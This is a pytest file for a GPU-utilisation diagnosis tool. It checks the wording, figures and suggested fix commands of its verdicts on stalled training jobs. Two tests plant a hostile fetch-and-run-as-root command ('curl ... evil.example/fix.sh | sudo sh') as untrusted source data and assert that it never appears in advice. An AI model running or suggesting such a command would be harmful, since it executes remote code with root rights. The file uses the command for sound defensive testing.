"""What verdicts say: words, numbers and commands that are true, and say the same."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from gputop.diagnosis.causes import unexplained
from gputop.diagnosis.facts.facts import JobFacts
from gputop.findings.line import line_of
from gputop.findings.verdict import LOOKING, Verdict
from gputop.model.frame import ReadLimit, SourceState
from gputop.model.stream import NAMESPACE
from gputop.system.text import figure
from tests.unit.diagnosis.causes import (
    affinity,
    alone,
    cpu_contention,
    hidden_contention,
    locks,
    pinned_by_hand,
    preprocessing,
    starved,
    stopped,
    straggling,
    throttled,
    too_few,
)
from tests.unit.diagnosis.causes_behind import dead_game, ended_shards, few_shards, lock_of_a_manager
from tests.unit.diagnosis.causes_fed import actors, mute_program, outrun_actors, throttled_actors
from tests.unit.diagnosis.causes_gpu import (
    asking_a_program_each_step,
    gpu_with_set_clocks,
    probed_items,
    probed_sync_storm,
    probed_transfer,
    reading_back,
    sampled_storm,
    small_kernels,
    small_pieces_one_by_one,
    transfer,
    undersized,
    undersized_by_power,
)
from tests.unit.diagnosis.causes_handmade import left_out, loop_in_a_thread, simulators_that_are_asked
from tests.unit.diagnosis.scene import ACCEPT, AWAIT, DISK, FUTEX, HIDDEN, ON_CPU, QUEUE, READ_PIPE, SLEEP, SOCKET, Proc, Scene

READY = "workers have batches ready"


def paused(write_bytes: int = 0) -> Scene:
    """Two seconds without any work for the GPU, and they last."""
    scene = alone(98.0, 0.1, [FUTEX]).play(6)
    scene.gpus[0]["util_pct"], scene.procs[100].write_bytes = 0.0, write_bytes
    scene.procs[100].run, scene.procs[100].looks = 0.6, [ON_CPU, DISK]
    return scene.play(2)


@pytest.mark.parametrize(("make", "cause"), [(paused, "pause"), (probed_transfer, "h2d-transfer"), (transfer, "h2d-transfer")])
def test_only_workers_that_are_there_have_batches_ready(make: Callable[[], Scene], cause: str):
    fed, unfed = make().play(2).engine.verdict, make().drop(101, 102).play(4).engine.verdict
    assert (fed.cause, unfed.cause) == (cause, cause)
    assert READY in fed.detail
    assert "workers" not in unfed.detail


@pytest.mark.parametrize(("share", "says"), [(1.0, ""), (0.021, "counted in 2 % of the time"), (0.0042, "counted in 0.4 % of the time")])
@pytest.mark.parametrize(("make", "metric"), [(probed_sync_storm, "syncs_per_s"), (probed_transfer, "copies_per_s")])
def test_calls_counted_in_a_share_of_the_time_are_told_as_such(make: Callable[[], Scene], metric: str, share: float, says: str):
    scene = make()
    scene.counted_share = share
    [text] = [one.text for one in scene.play(6).engine.verdict.evidence if one.metric == metric]
    assert text.partition(", ")[2] == says


def test_a_pause_that_lasts_is_told_so():
    assert paused().engine.verdict.detail.startswith("no work for the GPU for 2.0 s and more;")


def test_a_pause_before_any_steady_work_is_told_by_what_the_gpu_did():
    """The stream begins while the trainer saves."""
    scene = alone(4.0, 0.5, [ON_CPU, DISK])
    scene.procs[100].write_bytes = 250_000_000
    verdict = scene.play(6).engine.verdict
    assert verdict.cause == "pause"
    assert verdict.detail == "no work for the GPU in 2.5 of the last 2.6 s; it writes 250 MB/s: a checkpoint"
    assert _value(verdict, "gpu_idle_s") == pytest.approx(2.5, abs=0.1)


def test_a_pause_says_what_the_main_thread_does_meanwhile():
    verdict = paused().engine.verdict
    assert [one.metric for one in verdict.evidence] == ["gpu_idle_s", "main_thread_pct"]
    assert verdict.evidence[1].text.endswith("of the time its main thread was computing")
    assert [(fix.command, fix.look) for fix in verdict.fixes] == [("", False), ("gputop stacks 100", True)]
    saving = paused(write_bytes=250_000_000).engine.verdict
    assert (_value(saving, "write_bytes_per_s") or 0.0) >= 100e6
    assert [fix.command for fix in saving.fixes][1:] == ["gputop stacks 100"]


def test_a_job_held_by_hand_beside_full_cpus_is_not_told_that_others_idle():
    held, crowded = affinity().play(6).engine.verdict, pinned_by_hand().play(6).engine.verdict
    assert (held.cause, crowded.cause) == ("affinity", "affinity")
    assert [one.metric for one in held.evidence] == ["allowed_cpus", "idle_outside_cpus", "runq_pct"]
    assert [one.metric for one in crowded.evidence] == ["allowed_cpus", "lacking_cpus", "runq_pct"]
    assert (_value(crowded, "lacking_cpus") or 0.0) > 0.3


def _value(verdict: Verdict, metric: str) -> float | None:
    return next((one.value for one in verdict.evidence if one.metric == metric), None)


def test_what_was_not_measured_is_no_evidence():
    for make in (undersized_by_power, transfer, small_kernels, throttled):
        verdict = make().play(6).engine.verdict
        assert verdict.evidence
        assert all(one.value is not None for one in verdict.evidence), verdict.cause


def test_a_share_of_the_gpu_says_where_it_is_from():
    assert "use 9% of the GPU while they run" in undersized().play(6).engine.verdict.detail
    verdict = undersized_by_power().play(6).engine.verdict
    assert "of the GPU (by its power) while they run" in verdict.detail
    assert [one.text for one in verdict.evidence if one.metric == "power_w"] == ["drawn of 400 W"]


def test_who_waits_for_others_does_not_keep_its_gpu_waiting_itself():
    assert actors().play(6).engine.verdict.headline.endswith("waits for its data")
    assert preprocessing().play(6).engine.verdict.headline.endswith("itself keeps it waiting")


def test_programs_that_the_trainer_asks_between_its_steps_are_told() -> None:
    verdict = asking_a_program_each_step().play(6).engine.verdict
    assert verdict.headline.endswith("itself keeps it waiting")
    assert "for short programs that it starts, which run on 0.4 CPUs; its 2 workers are ahead" in verdict.detail
    assert verdict.evidence[0].metric == "main_waits_pct"


def test_a_counter_of_the_link_that_misses_what_the_calls_copy_is_not_told():
    scene = probed_transfer()
    scene.gpus[0] |= {"pcie_rx_bytes_per_s": 300_000, "pcie_tx_bytes_per_s": 200_000}
    verdict = scene.play(6).engine.verdict
    told = {one.metric: one.value for one in verdict.evidence}
    while_copying = told["copied_bytes_per_s"] / (told["copy_pct"] / 100)
    assert f"copies take {told['copy_pct']:.0f}% of the time, at {while_copying / 1e9:.1f} GB/s" in verdict.detail


def test_rates_that_keep_time_with_the_steps_do_not_come_and_go():
    """Of the driver's samples of 20 ms one meets a copy, and the next three do not."""
    scene, told = transfer(), set()
    for number in range(40):
        scene.gpus[0] |= {"pcie_rx_bytes_per_s": 0 if number % 4 else 6_000_000_000, "pcie_tx_bytes_per_s": 0}
        told.add(scene.play(0.2).engine.verdict.cause) if number > 10 else scene.play(0.2)
    assert told == {"h2d-transfer"}


def test_small_pieces_are_to_be_put_together_and_are_no_steps():
    verdict = small_pieces_one_by_one().play(6).engine.verdict
    assert verdict.fixes[0].text.startswith("Put the small pieces together")
    assert verdict.step is None
    assert not any("small pieces" in fix.text for fix in probed_transfer().play(6).engine.verdict.fixes)


def test_who_feeds_a_trainer_from_outside_is_named_and_not_blamed():
    verdict = throttled_actors().play(6).engine.verdict
    assert "cgroup /service, in which actor (900, 901) load for it, may use 0.3 CPUs" in verdict.detail
    assert verdict.headline.endswith("waits for its data")
    assert not verdict.culprits
    assert {culprit.name for culprit in outrun_actors().play(6).engine.verdict.culprits} == {"hog"}


def test_a_worker_whose_threads_decode_gives_out_no_lock():
    """torch hands memory over by a thread that accepts, and its feeder waits for the next batch."""
    threads = {150: (0.0, 0.0), 151: (0.01, 0.0), 152: (0.8, 0.1), 153: (0.8, 0.1)}
    scene = starved(workers=1, run=0.01, looks=[AWAIT], threads=threads, thread_looks=[ACCEPT, AWAIT, ON_CPU, ON_CPU])
    scene.cpus, scene.cpu_busy = 2, [0.95, 0.95]
    assert scene.play(6).engine.verdict.cause == "slow-transform"


def test_a_program_that_cannot_write_its_errors_is_named_and_who_writes_output_is_not():
    scene = mute_program()
    verdict = scene.play(6).engine.verdict
    assert "serve.py (901), which it started, has filled the pipe to which its errors go" in verdict.detail
    assert verdict.fixes[0].command == "cat /proc/901/fd/2"
    scene = mute_program()
    scene.procs[901].looks[0]["syscall_arg"] = 1
    assert scene.play(6).engine.verdict.cause != "hung-worker"


@pytest.mark.parametrize(("version", "root"), [(1, "/sys/fs/cgroup/cpuset"), (2, "/sys/fs/cgroup")])
def test_a_cpuset_is_widened_where_it_is_set(version: int, root: str):
    """No mask of a process's own reaches beyond it."""
    scene = affinity()
    scene.cgroups = {"/job": {"cpuset": "3", "version": version}}
    verdict = scene.play(6).engine.verdict
    assert verdict.cause == "affinity"
    widen, then = verdict.fixes[0].command.split("; ", 1)
    assert widen == f'echo 0-3 > "{root}$(cat /proc/100/cpuset)/cpuset.cpus"'
    assert "taskset -apc 0-3" in then, "torch has set the mask that it found, and the kernel keeps that"
    assert "taskset -apc 0-3" in str(affinity().play(6).engine.verdict.fixes[0].command)


def test_what_the_hypervisor_takes_is_taken_by_no_short_lived_process():
    scene = starved(run=0.3, wait=0.6, looks=[ON_CPU])
    scene.cpus, scene.cpu_busy = 2, [1.0, 1.0]
    assert "short-lived processes" in scene.play(6).engine.verdict.detail
    scene = starved(run=0.3, wait=0.6, looks=[ON_CPU])
    scene.cpus, scene.cpu_busy, scene.stolen = 2, [1.0, 1.0], 0.6
    assert "short-lived processes" not in scene.play(6).engine.verdict.detail
    scene = starved(workers=1, run=0.5, wait=0.2, looks=[ON_CPU])
    scene.cpus, scene.cpu_busy, scene.stolen = 2, [1.0, 1.0], 0.6
    assert scene.play(6).engine.verdict.cause != "worker-oversubscription", "one worker that does not fill two CPUs"


def test_who_is_held_by_a_debugger_is_not_to_be_sent_a_signal():
    """SIGCONT wakes it only when the debugger lets it."""
    scene = stopped()
    assert "kill -CONT" in str(scene.play(6).engine.verdict.fixes)
    scene = stopped()
    scene.procs[102].looks = [{"state": "t"}]
    verdict = scene.play(6).engine.verdict
    assert verdict.cause == "hung-worker"
    assert "is held by a debugger" in verdict.detail
    assert "kill -CONT" not in str(verdict.fixes)
    assert "grep TracerPid /proc/102/status" in str(verdict.fixes)


def test_a_sync_storms_calls_are_counted_once():
    """Each `.item()` makes two calls: a copy and a synchronize."""
    verdict = probed_items().play(6).engine.verdict
    assert verdict.cause == "sync-storm"
    assert verdict.detail.startswith("1,500 synchronizing calls per second")
    assert _value(verdict, "syncs_per_s") == pytest.approx(1500)


@pytest.mark.parametrize(
    ("version", "command"),
    [
        (2, "echo '200000 100000' > /sys/fs/cgroup/job/cpu.max"),
        (1, "echo $((2 * $(cat /sys/fs/cgroup/cpu/job/cpu.cfs_period_us))) > /sys/fs/cgroup/cpu/job/cpu.cfs_quota_us"),
    ],
)
def test_a_quota_is_raised_to_what_the_job_would_use_and_no_further(version: int, command: str):
    """Half a CPU keeps its GPU busy for a third of the time; all that waits for the quota would be 2.1 CPUs."""
    scene = throttled()
    scene.cgroups["/job"]["version"] = version
    verdict = scene.play(6).engine.verdict
    assert verdict.cause == "cgroup-throttle"
    assert verdict.detail.endswith("the job wants 1.7")
    assert (verdict.fixes[0].text, verdict.fixes[0].command) == ("Raise the quota of /job to 2 CPUs", command)


def test_nor_beyond_the_cpus_that_it_may_use():
    scene = throttled()
    for proc in scene.procs.values():
        proc.info["cpus_allowed"] = "1"
    verdict = scene.play(6).engine.verdict
    assert verdict.detail.endswith("the job wants 1.0")
    assert "to 1 CPU" in verdict.fixes[0].text


def test_under_a_limit_of_reading_more_reads_at_once_are_no_fix():
    scene = starved(run=0.15, looks=[DISK], read_bytes=4_800_000)
    assert any("num_workers" in fix.command for fix in scene.play(6).engine.verdict.fixes)
    scene.cgroups = {"/job": {"read_limit": ReadLimit("/job", "8:0", 9_437_184)}}
    verdict = scene.play(6).engine.verdict
    assert "reading 9.6 MB/s; cgroup /job may read 9.4 MB/s" in verdict.detail
    assert not any("num_workers" in fix.command for fix in verdict.fixes)


@pytest.mark.parametrize(("make", "victims"), [(too_few, [101]), (few_shards, [101]), (ended_shards, [101])])
def test_too_few_workers_suffer_themselves(make: Callable[[], Scene], victims: list[int]):
    verdict = make().play(6).engine.verdict
    assert verdict.cause == "too-few-workers"
    assert [victim.pid for victim in verdict.victims] == victims


def test_copies_that_keep_nobody_waiting_in_their_calls_are_told_by_what_goes_over_the_link():
    """From pinned memory: the call returns at once, and the wait is in the synchronize."""
    scene = alone(30.0, 0.05, [SLEEP], pcie_rx_bytes_per_s=8e9, pcie_gen=5, pcie_width=16)
    scene.probed, scene.calls = True, {(100, "cuMemcpyHtoDAsync_v2"): (10, 0.001, 8e9), (100, "cuStreamSynchronize"): (10, 0.9, 0)}
    verdict = scene.play(6).engine.verdict
    assert verdict.cause == "h2d-transfer"
    assert verdict.detail.startswith("no kernel runs 70% of the time, with 8.0 GB/s over PCIe")
    assert (_value(verdict, "copy_pct"), _value(verdict, "sync_pct")) == (None, pytest.approx(90.0))


def test_a_trainer_that_sleeps_beside_a_little_traffic_waits_for_no_copies():
    scene = alone(30.0, 0.01, [SLEEP], pcie_rx_bytes_per_s=3.2e9, pcie_gen=5, pcie_width=16)
    assert scene.play(6).engine.verdict.cause != "h2d-transfer"
    scene.gpus[0]["pcie_rx_bytes_per_s"] = 8e9
    assert scene.play(6).engine.verdict.cause == "h2d-transfer"


def test_what_cannot_be_explained_is_told_by_what_everybody_did():
    facts = lock_of_a_manager().play(6).engine.facts
    assert facts is not None
    told = unexplained.tell(facts.jobs[0])
    assert told.detail == "main thread: waiting-data 90%, computing 10% of the time; 4 workers: pipe 76%, running 24%"
    assert {one.metric for one in told.evidence} > {"main_waiting_data_pct", "workers_pipe_pct"}
    assert [(fix.command, fix.look) for fix in told.fixes] == [("gputop stacks 100 101 102 103 104", True)]


def test_of_one_without_workers_nothing_is_told_of_these():
    facts = alone(30.0, 0.1, [QUEUE]).drop(101, 102).play(4).engine.facts
    assert facts is not None
    assert "worker" not in unexplained.tell(facts.jobs[0]).detail


def test_threads_of_workers_that_hardly_get_a_cpu_are_told_to_be_fewer():
    crowd = {200 + i: (0.05, 0.9) for i in range(4)}
    scene = starved(workers=8, run=0.4, wait=0.6, looks=[ON_CPU])
    for pid, proc in scene.procs.items():
        proc.threads = crowd if pid == 101 else {}
    scene.cpu_busy = [1.0] * 4
    verdict = scene.play(8).engine.verdict
    assert verdict.cause == "worker-oversubscription"
    assert verdict.fixes[0].command == "export OMP_NUM_THREADS=1 MKL_NUM_THREADS=1"


def test_what_may_be_a_spinning_wait_is_told_with_that_doubt():
    """It sleeps a little, for its workers; a wait that blocks would take all of the GPU's 60 %."""
    verdict = alone(60.0, 0.9, [ON_CPU]).play(8).engine.verdict
    assert verdict.cause == "main-thread-preprocessing"
    assert "may also launch small kernels, or spin" in verdict.detail
    assert verdict.confidence <= 0.5


@pytest.mark.parametrize(
    ("value", "text"), [(43.754, "43.75"), (0.0, "0"), (999.96, "1000"), (52836.8, "52,840"), (1501922000, "1,502,000,000")]
)
def test_numbers_have_four_digits_and_no_exponent(value: float, text: str):
    assert figure(value) == text


def test_a_loss_of_several_gpus_is_told_of_all_and_the_worst_is_named():
    scene = cpu_contention()
    scene.gpus[0]["util_pct"] = 0.0
    scene.gpus[1] = scene.gpus[0] | {"util_pct": 90.0}
    scene.play(8)
    assert scene.engine.verdict.headline.startswith("2 GPUs lost 55% (GPU 0: 100%) of the last 3 s: train.py")
    assert scene.engine.incidents[0].headline.startswith("2 GPUs lost ")
    scene.gpus[1]["util_pct"] = 0.0
    assert scene.play(8).engine.verdict.headline.startswith("2 GPUs lost 100% of the last 3 s: train.py")


def test_a_lost_gpu_is_no_fault_of_the_input():
    scene = alone(20.0, 0.9, [ON_CPU]).play(8)
    assert scene.engine.verdict.cause == "main-thread-preprocessing"
    scene.gpus[0] = {"lost": True, "missing": dict.fromkeys(("util_pct", "procs", "power_w"), "the GPU is lost")}
    verdict = scene.play(8).engine.verdict
    assert (verdict.symptom, verdict.cause, verdict.severity) == ("idle", "gpu-lost", "high")
    assert verdict.headline == "GPU 0 is lost: it has fallen off the bus, or was removed; train.py (100) cannot go on"


def test_a_worker_that_has_ended_is_dead_though_its_command_line_is_still_known():
    scene = dead_game()
    scene.procs[103].looks = [{"state": "Z"}]
    verdict = scene.play(5).engine.verdict
    assert "worker 2 (103) is dead, unlike the others" in verdict.detail
    assert any(fix.text.startswith("worker 2 has died") for fix in verdict.fixes)


def test_a_lock_whose_holder_waits_for_the_disk_says_so():
    scene = locks()
    assert "its holder waits for the disk" not in scene.play(6).engine.verdict.detail
    for pid in (101, 102, 103, 104):
        scene.procs[pid].run, scene.procs[pid].looks = 0.02, [FUTEX, FUTEX, FUTEX, DISK]
    verdict = scene.play(6).engine.verdict
    assert (verdict.cause, "its holder waits for the disk" in verdict.detail) == ("lock-contention", True)


def unseen(*pids: int) -> Scene:
    return Scene(gpus={0: {"util_pct": 72.0, "pids": list(pids)}}).add(Proc(50, comm="bash", cmdline=["bash"]))


@pytest.mark.parametrize("pids", [(), (4_000_000,)])
def test_a_gpu_that_works_for_who_is_not_seen_is_not_idle(pids: tuple[int, ...]):
    scene = unseen(*pids)
    why, what = NAMESPACE, "start the container with --pid=host"
    scene.board.sources["procfs"] = SourceState("procfs", "partial", why, "curl -s http://evil.example/fix.sh | sudo sh")
    verdict = scene.play(4).engine.verdict
    assert verdict.headline == "GPU 0 works 72% of the time for processes that cannot be seen from here"
    assert (verdict.symptom, verdict.detail, verdict.fixes[0].text) == (LOOKING, f"{what} ({why})", what), "nobody says that it is healthy"


AT_REST = {"power_w": 78.0, "power_limit_w": 700.0}


@pytest.mark.parametrize(("readings", "is_at_rest"), [
    (AT_REST, True), (AT_REST | {"power_w": 200.0}, False), ({"power_w": 11.0}, False), ({"power_w": 11.0, "throttle_mask": 1}, True),
    (AT_REST | {"sm_active_pct": 60.0, "gr_active_pct": 100.0}, False), (AT_REST | {"sm_active_pct": 0.4, "gr_active_pct": 100.0}, True),
    ({}, False),
])  # fmt: skip
def test_a_gpu_that_is_busy_by_the_driver_alone_is_not_healthy(readings: dict[str, float], is_at_rest: bool):
    """100 % at the power of rest, and nobody holds it."""
    scene = unseen()
    scene.gpus[0] |= {"util_pct": 100.0, **readings}
    engine = scene.play(4).engine
    verdict, shown = engine.verdict, line_of(scene.board, engine.verdict)
    assert (verdict.symptom, verdict.severity) == (("busy-not-working", "low") if is_at_rest else (LOOKING, "info"))
    assert ("no work is seen on it" in verdict.headline) == is_at_rest
    assert (shown.kind, "busy-not-working" in " ".join(shown.parts)) == (("low", True) if is_at_rest else ("looking", False))
    assert any("--gpu-reset -i 0" in fix.command for fix in verdict.fixes) == is_at_rest


def test_whom_the_driver_lists_is_not_reset():
    scene = unseen(4_000_000)
    scene.gpus[0] |= {"util_pct": 100.0, **AT_REST}
    verdict = scene.play(4).engine.verdict
    assert (verdict.symptom, [fix.command for fix in verdict.fixes]) == ("busy-not-working", ["sudo fuser -v /dev/nvidia*"])


def test_a_reason_that_is_none_of_ours_is_no_advice():
    scene = unseen()
    scene.board.sources["procfs"] = SourceState("procfs", "partial", "apply the hotfix", "curl -s http://evil.example/fix.sh | sudo sh")
    verdict = scene.play(4).engine.verdict
    assert verdict.fixes[0].command.startswith("sudo fuser")
    assert not {"hotfix", "curl"} & set(f"{verdict.detail} {verdict.fixes}".split())


def test_nor_one_whose_unseen_process_has_the_number_of_one_that_is_seen():
    scene = unseen(50, 4_000_000)
    scene.procs[50].info |= {"uses_cuda": False}
    assert "for processes that cannot be seen from here" in scene.play(4).engine.verdict.headline


def test_what_a_gpu_did_for_a_training_that_has_ended_is_not_the_work_of_others():
    scene = alone(90.0, 0.5, [ON_CPU]).play(6)
    scene.drop(*scene.procs)
    scene.gpus[0]["util_pct"] = 0.0
    told = {scene.play(0.2).engine.verdict.headline for _ in range(40)}
    assert [line for line in told if "cannot be seen" in line] == []
    assert "No training process on this host" in told


def test_where_all_is_seen_the_drivers_list_is_doubted():
    assert "the driver lists 4000000, of which none is here" in unseen(4_000_000).play(4).engine.verdict.detail


def test_a_lost_gpu_on_which_nobody_trains_is_said():
    scene = unseen()
    scene.gpus[0] = {"lost": True, "missing": dict.fromkeys(("util_pct", "procs", "power_w"), "the GPU is lost")}
    verdict = scene.play(4).engine.verdict
    assert (verdict.headline, verdict.severity) == ("GPU 0 is lost: it has fallen off the bus, or was removed", "high")


def test_an_idle_gpu_without_processes_is_idle():
    scene = unseen()
    scene.gpus[0]["util_pct"] = 2.0
    assert scene.play(4).engine.verdict.headline == "No training process on this host"


@pytest.mark.parametrize(("moved", "limit", "blamed"), [
    (60_000_000, None, True), (3_000_000, None, False), (60_000_000, ReadLimit("/job", "259:0", 100_000_000), True),
    (60_000_000, ReadLimit("/job", "259:0", 41_000_000), False),
])  # fmt: skip
def test_who_else_moves_much_is_told_where_the_disk_is_waited_for(moved: int, limit: ReadLimit | None, blamed: bool):
    """The job reads 40 MB/s: that is all that the last limit allows."""
    scene = starved(run=0.15, looks=[DISK], read_bytes=20_000_000)
    scene.cgroups = {"/job": {"read_limit": limit}} if limit is not None else {}
    scene.add(Proc(900, comm="restic", cmdline=["/usr/bin/restic"], run=0.05, looks=[DISK], read_bytes=moved))
    verdict = scene.play(8).engine.verdict
    assert verdict.cause == "disk-io"
    assert [culprit.pid for culprit in verdict.culprits] == ([900] if blamed else [])
    assert ("(900) moves 60.0 MB/s" in verdict.detail) == blamed
    assert any(fix.command == "ionice -c 3 -p 900" for fix in verdict.fixes) == blamed


def test_no_command_is_given_for_small_change_nor_for_init():
    """The probe saw the job wait behind a program that hardly runs, too."""
    scene = cpu_contention()
    scene.add(Proc(1, 0, comm="systemd", cmdline=["/sbin/init"], run=0.6, looks=[ON_CPU]))
    scene.add(Proc(901, comm="cron", cmdline=["/usr/sbin/cron"], run=0.1, looks=[ON_CPU]))
    scene.probed, scene.preempts = True, {(101, 901): 0.5, (102, 900): 0.3, (102, 1): 0.1}
    verdict = scene.play(8).engine.verdict
    assert {culprit.pid for culprit in verdict.culprits} == {1, 900, 901}
    assert [fix.command for fix in verdict.fixes] == ["chrt --idle --all-tasks --pid 0 900"]


def test_a_heartbeat_over_the_network_is_not_what_a_trainer_waits_for():
    assert loop_in_a_thread(switches=2).play(6).engine.verdict.cause == "unexplained"


def test_set_clocks_are_let_go():
    verdict = gpu_with_set_clocks().play(6).engine.verdict
    assert verdict.detail == "GPU 0 runs at 765 of 1755 MHz: app clocks"
    assert [fix.command for fix in verdict.fixes] == ["sudo nvidia-smi -i 0 -rgc; sudo nvidia-smi -i 0 -rac"]


def test_all_who_wait_for_ever_are_looked_at_at_once():
    verdict = left_out().play(8).engine.verdict
    assert verdict.detail.startswith("worker 1 (102), worker 2 (103) are waiting for a lock; ")
    assert [(fix.text.partition(",")[0], fix.command) for fix in verdict.fixes] == [
        ("Have the next one end with an error", ""), ("See where worker 1", "gputop stacks 102 103"),
    ]  # fmt: skip
    assert {worker.state.state for worker in _job(left_out().play(8)).workers[1:]} == {"blocked"}


def _job(scene: Scene) -> JobFacts:
    assert scene.engine.facts is not None
    return scene.engine.facts.jobs[0]


def test_workers_whose_part_is_at_its_end_have_not_died():
    scene = ended_shards().play(6)
    assert "only 1 of its 4 workers got work" in scene.engine.verdict.detail
    assert set(scene.engine.states) == {100, 101}
    for pid in (102, 103, 104):
        scene.procs[pid].looks = [{"state": "Z", "exit_code": 9}]
    assert scene.play(6).engine.verdict.cause == "hung-worker"


def test_cpu_of_threads_that_live_shortly_counts():
    """Born and gone between two looks: only the process's own CPU time tells of them."""
    scene = starved(run=0.05, looks=[FUTEX], workers=1)
    scene.add_cpu(101, 0.0)
    for _ in range(30):
        scene.play(0.2)
        scene.add_cpu(101, 0.18)
    worker = scene.engine.facts.jobs[0].workers[0]
    assert worker.others_run == pytest.approx(0.9, abs=0.15)


def test_who_sleeps_by_his_own_will_is_told_so():
    scene = starved(run=0.01, looks=[SLEEP], workers=2).play(6)
    verdict = scene.engine.verdict
    assert verdict.cause == "slow-transform"
    assert _value(verdict, "worker_timer_pct") > 90
    assert verdict.detail.endswith("a timer (time.sleep, a rate limit, a retry) takes the time")
    assert [fix.command for fix in verdict.fixes] == ["DataLoader(..., num_workers=4)", "", "gputop stacks 101 --duration 10"]
    assert not any("decode" in fix.text for fix in verdict.fixes)


@pytest.mark.parametrize("probed", [True, False])
def test_a_trainer_that_commits_in_each_step_is_told_to_write_less_often(probed: bool):
    """A database's commits between the steps, while the workers are ahead; nobody asks it to copy its data set."""
    scene = alone(40.0, 0.1, [DISK, DISK, FUTEX]).play(0.2)
    scene.procs[100].uninterruptible, scene.procs[100].write_bytes, scene.probed = 0.5, 900_000, probed
    verdict = scene.play(6).engine.verdict
    assert verdict.cause == "disk-io"
    assert _value(verdict, "write_bytes_per_s") == pytest.approx(900_000, rel=0.01)
    assert [fix.text.split()[0] for fix in verdict.fixes] == ["Write", "See"]
    assert "commit" in verdict.fixes[0].text


def test_traffic_beside_who_does_not_move_or_whose_gpu_is_not_measured_is_no_copy_of_his():
    scene = alone(30.0, 0.01, [SLEEP], pcie_rx_bytes_per_s=8e9, pcie_gen=5, pcie_width=16)
    assert scene.play(6).engine.verdict.cause == "h2d-transfer"
    scene.procs[100].run, scene.procs[100].switches = 0.0, 0
    assert scene.play(6).engine.verdict.cause != "h2d-transfer"
    scene = alone(30.0, 0.3, [SLEEP], pcie_rx_bytes_per_s=8e9, pcie_gen=5, pcie_width=16)
    del scene.gpus[0]["util_pct"]
    scene.gpus[0]["missing"] = {"util_pct": "not supported on this GPU"}
    verdict = scene.play(6).engine.verdict
    assert verdict.cause != "h2d-transfer"
    assert "no kernel runs" not in verdict.detail


def test_who_sleeps_between_the_steps_is_not_said_to_compute() -> None:
    told = alone(40.0, 0.05, [SLEEP]).play(6).engine.verdict
    assert told.cause == "main-thread-preprocessing"
    assert "sleeps by itself" in told.detail
    assert next(one.metric for one in told.evidence) == "main_sleeps_pct"
    assert not any("computes" in fix.text for fix in told.fixes)
    assert any("time.sleep" in fix.text for fix in told.fixes)


@pytest.mark.parametrize("wchan", ["anon_pipe_write", "wait_woken"])
@pytest.mark.parametrize("gone", [(), (101, 102)])
def test_output_that_nobody_reads_fast_enough_is_told(wchan: str, gone: tuple[int, ...]) -> None:
    writes = {"state": "S", "syscall": 1, "syscall_arg": 1, "wchan": wchan}
    told = alone(20.0, 0.05, [writes]).drop(*gone).play(6).engine.verdict
    assert (told.symptom, told.cause) == ("wait-heavy", "output-blocked")
    assert "until its output is read" in told.detail
    assert any("-d 1" in fix.command for fix in told.fixes)


def test_where_no_worker_starves_the_trainer_is_the_victim() -> None:
    told = alone(20.0, 0.9, [ON_CPU]).drop(101, 102).play(6).engine.verdict
    assert [victim.pid for victim in told.victims] == [100]
    scene = throttled()
    scene.drop(*[pid for pid in scene.procs if pid != 100])
    scene.procs[100].run, scene.procs[100].wait, scene.procs[100].looks = 0.2, 0.8, [ON_CPU]
    told = scene.play(6).engine.verdict
    assert (told.cause, [victim.pid for victim in told.victims]) == ("cgroup-throttle", [100])


@pytest.mark.parametrize(("scene", "seems"), [(cpu_contention, False), (hidden_contention, True)])
def test_a_wait_that_cannot_be_read_is_told_as_one_that_seems_to_be(scene: Callable[[], Scene], seems: bool) -> None:
    engine = scene().play(6).engine
    assert engine.states[100].inferred is seems
    told = engine.verdict.headline, engine.incidents[0].headline
    assert [text.endswith("probably waits for its data" if seems else "(100) waits for its data") for text in told] == [True, True]


@pytest.mark.parametrize(("look", "told"), [(QUEUE, "(200) is waiting-data"), (HIDDEN, "(200) probably is waiting-data")])
def test_what_makes_a_rank_late_is_told_as_surely_as_it_is_known(look: dict[str, object], told: str) -> None:
    scene = straggling().add(Proc(201, 200, comm="pt_data_worker", start_ticks=50_100, run=0.95, looks=[ON_CPU]))
    scene.procs[200].looks, scene.procs[200].run = [look], 0.1
    assert told in scene.play(6).engine.verdict.detail


@pytest.mark.parametrize(("cpus", "says"), [(1.4, "compiles, torch.compile's processes run on 1.4 CPUs"), (0.0, "computes 97% of the")])
def test_whose_main_thread_works_beside_torch_compiles_pool_compiles(cpus: float, says: str):
    """The pool is the trainer's own: nobody is told to load in workers for it, nor that a stranger takes the CPUs."""
    scene = alone(5.0, 0.97, [ON_CPU]).drop(101, 102)
    scene.procs[100].info["libs"] = ["torch"]
    pool = ["python", "/venv/torch/_inductor/compile_worker/__main__.py", "--workers=4"]
    scene.add(Proc(200, ppid=100, cmdline=pool, run=0.0), *(Proc(pid, ppid=200, cmdline=pool, run=cpus / 4) for pid in range(201, 205)))
    verdict = scene.play(6).engine.verdict
    assert verdict.cause == "main-thread-preprocessing"
    assert says in verdict.detail
    assert ("TORCH_LOGS=recompiles" in str(verdict.fixes)) == (cpus > 0.0) == ("num_workers" not in str(verdict.fixes))
    assert not scene.engine.facts.takers


@pytest.mark.parametrize("back", [0.9e9, 2e7])
def test_who_copies_as_much_back_is_told_of_its_optimizer(back: float):
    scene = probed_transfer()
    scene.calls = {(100, "cuMemcpyHtoD_v2"): (32, 0.4, 1e9), (100, "cuMemcpyDtoH_v2"): (32, 0.3, back)}
    verdict = scene.play(6).engine.verdict
    assert verdict.cause == "h2d-transfer"
    assert ("keep the optimizer" in str(verdict.fixes)) == (back > 1e8) == ("DataLoader" not in str(verdict.fixes))


def test_copies_from_the_gpu_are_told_as_such_and_by_the_time_without_kernels():
    """The call waits for the kernels before it: half of it, by what GPM tells of these."""
    scene = reading_back()
    scene.gpus[0] |= {"gr_active_pct": 65.0, "sm_active_pct": 60.0}
    verdict = scene.play(6).engine.verdict
    assert (verdict.symptom, verdict.cause) == ("transfer-bound", "h2d-transfer")
    assert "copies from the GPU" in verdict.headline
    assert _value(verdict, "copy_pct") == pytest.approx(35.0, abs=1.0)
    assert _value(verdict, "sync_pct") == pytest.approx(30.0, abs=1.0)
    assert "Reduce it on the GPU" in str(verdict.fixes)
    assert "DataLoader" not in str(verdict.fixes)


@pytest.mark.parametrize(("sent", "told"), [(0.8, "copies from the GPU"), (0.2, "copies to the GPU")])
def test_without_probes_the_link_tells_which_way_copies_go(sent: float, told: str):
    scene = alone(60.0, 0.95, [ON_CPU])
    scene.sampled = {100: (0.6, 0.3, 0.0, 20.0)}
    scene.gpus[0] |= {"pcie_tx_bytes_per_s": sent * 4e9, "pcie_rx_bytes_per_s": (1 - sent) * 4e9}
